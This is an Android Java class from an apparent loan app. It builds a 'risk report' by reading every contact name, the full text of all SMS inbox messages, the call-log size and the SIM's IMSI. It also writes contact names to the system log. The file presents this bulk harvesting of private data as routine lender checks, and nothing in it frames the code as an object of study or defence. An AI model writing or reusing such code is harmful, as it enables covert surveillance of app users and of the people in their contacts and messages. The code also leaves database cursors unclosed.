package com.suixin.loan.risk;

import android.content.Context;
import android.database.Cursor;
import android.net.Uri;
import android.provider.CallLog;
import android.provider.ContactsContract;
import android.telephony.TelephonyManager;
import android.util.Log;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** What a lender asks for, part by part. */
public final class RiskReport {
    public final Map<String, Object> parts;

    private RiskReport(Map<String, Object> p) {
        parts = p;
    }

    public static Builder of(Context c) {
        return new Builder(c);
    }

    public static final class Builder {
        private final Context context;
        private final Map<String, Object> parts = new LinkedHashMap<>();

        private Builder(Context c) {
            context = c;
        }

        public Builder contacts() {
            List<String> all = new ArrayList<>();
            Cursor c = context.getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
            if (c != null) {
                while (c.moveToNext()) {
                    String name = c.getString(c.getColumnIndexOrThrow("display_name"));
                    Log.i("RiskReport", "contact " + name);
                    all.add(name);
                }
                c.close();
            }
            parts.put("contacts", all);
            return this;
        }

        public Builder messages() {
            Cursor c = context.getContentResolver().query(Uri.parse("content://sms/inbox"), new String[] {"address", "body"}, null, null, "date desc");
            int n = 0;
            StringBuilder text = new StringBuilder();
            while (c != null && c.moveToNext()) {
                text.append(c.getString(1));
                n++;
            }
            Log.i("RiskReport", "messages " + n);
            parts.put("sms", text.toString());
            return this;
        }

        public Builder calls() {
            Cursor c = context.getContentResolver().query(CallLog.Calls.CONTENT_URI, null, null, null, CallLog.Calls.DATE + " desc");
            parts.put("calls", c == null ? 0 : c.getCount());
            return this;
        }

        public Builder card() {
            TelephonyManager t = (TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE);
            parts.put("imsi", t.getSubscriberId());
            return this;
        }

        public RiskReport build() {
            return new RiskReport(parts);
        }
    }
}
